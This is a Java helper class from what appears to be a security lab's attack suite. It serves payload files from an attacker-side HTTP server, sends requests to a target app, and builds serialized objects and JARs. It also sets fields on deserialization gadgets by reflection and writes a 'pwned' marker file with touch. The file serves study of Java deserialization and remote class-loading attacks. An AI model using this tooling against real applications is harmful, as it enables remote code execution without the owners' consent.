package whorl.lab.attack;

import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.ObjectOutputStream;
import java.io.OutputStream;
import java.lang.reflect.Field;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Map;
import java.util.TreeMap;
import java.util.jar.JarEntry;
import java.util.jar.JarOutputStream;

/** What attackers of several cases need: a web server with their files, and a client. */
public final class Attacker {
  public static final String HOST = System.getProperty("lab.attacker");
  public static final int WEB_PORT = 8000;
  public static final String WEB = "http://" + HOST + ":" + WEB_PORT;
  public static final String APP = System.getProperty("lab.app");
  public static final String WORK = System.getProperty("lab.work");

  private static final HttpClient CLIENT =
      HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();

  private Attacker() {}

  /** Serves these files on the attacker's address until the process ends. */
  public static void serve(Map<String, byte[]> files) throws IOException {
    HttpServer server = HttpServer.create(new InetSocketAddress(HOST, WEB_PORT), 0);
    server.createContext(
        "/",
        exchange -> {
          System.out.println("asked for " + exchange.getRequestURI());
          exchange.getRequestBody().readAllBytes();
          byte[] file = files.get(exchange.getRequestURI().getPath());
          exchange.sendResponseHeaders(file == null ? 404 : 200, file == null ? -1 : file.length);
          if (file != null) {
            try (OutputStream out = exchange.getResponseBody()) {
              out.write(file);
            }
          }
          exchange.close();
        });
    server.start();
  }

  /** A GET to the application; the answer's text. */
  public static String get(String path, String... headers) throws Exception {
    return send("GET", path, null, headers);
  }

  public static String post(String path, byte[] body, String... headers) throws Exception {
    return send("POST", path, body, headers);
  }

  public static String post(String path, String body, String... headers) throws Exception {
    return send("POST", path, body.getBytes(StandardCharsets.UTF_8), headers);
  }

  public static String send(String method, String path, byte[] body, String... headers)
      throws Exception {
    HttpRequest.Builder request =
        HttpRequest.newBuilder(URI.create(APP + path))
            .timeout(Duration.ofSeconds(20))
            .method(
                method, body == null ? BodyPublishers.noBody() : BodyPublishers.ofByteArray(body));
    if (headers.length > 0) {
      request.headers(headers);
    }
    String line = method + " " + path.replaceAll("\\?.*", "");
    System.out.println("lab: sent " + System.currentTimeMillis() + " " + line);
    try {
      HttpResponse<String> answer =
          CLIENT.send(request.build(), HttpResponse.BodyHandlers.ofString());
      System.out.println(answer.statusCode() + " " + answer.body().strip());
      return answer.body();
    } catch (IOException e) {
      System.out.println("no answer: " + e);
      return "";
    }
  }

  public static void done() {
    System.out.println("lab: done");
  }

  public static String encode(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8);
  }

  /** The command that shows that the attack succeeded. */
  public static String touch() {
    return "touch " + WORK + "/pwned";
  }

  public static byte[] classBytes(Class<?> type) throws IOException {
    return classBytes(type.getName());
  }

  public static byte[] classBytes(String name) throws IOException {
    String file = name.replace('.', '/') + ".class";
    try (InputStream in = Attacker.class.getClassLoader().getResourceAsStream(file)) {
      return in.readAllBytes();
    }
  }

  public static byte[] serialized(Object object) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
      out.writeObject(object);
    }
    return bytes.toByteArray();
  }

  public static byte[] jar(Map<String, byte[]> entries) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (JarOutputStream jar = new JarOutputStream(bytes)) {
      for (Map.Entry<String, byte[]> entry : new TreeMap<>(entries).entrySet()) {
        jar.putNextEntry(new JarEntry(entry.getKey()));
        jar.write(entry.getValue());
      }
    }
    return bytes.toByteArray();
  }

  /** Sets a field of a gadget, also one of a superclass. */
  public static void set(Object target, String name, Object value) throws Exception {
    for (Class<?> type = target.getClass(); type != null; type = type.getSuperclass()) {
      for (Field field : type.getDeclaredFields()) {
        if (field.getName().equals(name)) {
          field.setAccessible(true);
          field.set(target, value);
          return;
        }
      }
    }
    throw new NoSuchFieldException(name);
  }
}
